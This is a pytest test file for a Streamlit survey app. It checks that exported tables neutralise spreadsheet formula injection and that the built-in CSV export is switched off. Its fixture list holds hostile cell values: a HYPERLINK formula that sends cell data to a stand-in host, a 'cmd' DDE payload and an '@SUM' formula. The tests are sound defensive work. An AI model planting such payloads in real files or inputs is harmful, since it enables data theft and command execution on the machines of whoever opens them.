"""Every table the app shows downloads formula-safe; Streamlit's own CSV export is off.

Before the fix, the built-in "Download as CSV" of the open-answers table wrote
``=HYPERLINK(…)``, ``+cmd|…`` and ``@SUM(1)`` unneutralised (survey respondents are outsiders).
"""

from __future__ import annotations

import datetime as dt
import io
import tomllib
from pathlib import Path

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from data.demo import load_demo
from data.store import open_db
from export.safe import table_xlsx
from i18n import t

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_builtin_csv_download_is_off() -> None:
    with (ROOT / ".streamlit" / "config.toml").open("rb") as fh:
        assert tomllib.load(fh)["client"]["disableDataExport"] is True


def test_table_workbook_keeps_text_as_text() -> None:
    rows = [[text, 3, dt.date(2024, 5, 15), None] for text in HOSTILE]
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx(["Vastaus", "n", "Pvm", "Tyhjä"], rows)))
    sheet = book.active
    assert [c.value for c in sheet[1]] == ["Vastaus", "n", "Pvm", "Tyhjä"]
    for index, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(index, 1)
        assert (cell.value, cell.data_type) == (text, "s")  # a string, never a formula ("f")
        assert sheet.cell(index, 2).value == 3
        assert sheet.cell(index, 3).value == dt.datetime(2024, 5, 15)
        assert sheet.cell(index, 3).number_format == "d.m.yyyy"
        assert sheet.cell(index, 4).value is None


@pytest.fixture
def hostile_answers_db(tmp_path: Path) -> Path:
    path = tmp_path / "demo.duckdb"
    con = open_db(path)
    load_demo(con)
    [(item,)] = con.execute(
        "SELECT code FROM survey_item WHERE scale = 'text' ORDER BY code LIMIT 1"
    ).fetchall()
    for number, text in enumerate(HOSTILE):
        con.execute(
            "INSERT INTO survey_answer (cluster_id, survey_id, import_id, response_no, item_code,"
            " value_text) SELECT cluster_id, survey_id, import_id, 9000 + ?, ?, ? FROM v_survey"
            " ORDER BY year DESC LIMIT 1",
            [number, item, text],
        )
    con.close()
    return path


def test_open_answers_show_as_typed_with_a_safe_download(
    hostile_answers_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KLUSTERIMITTARI_DB", str(hostile_answers_db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/surveys.py").run()
    assert not at.exception
    shown = [text for frame in at.dataframe for text in frame.value.get("text", [])]
    assert set(HOSTILE) <= set(shown)  # what people see is not changed
    labels = (t("ui.export.table", "fi"), t("ui.chart.download", "fi"))
    downloads = [b for b in at.get("download_button") if any(x in str(b.proto) for x in labels)]
    assert len(downloads) == len(at.dataframe) > 0
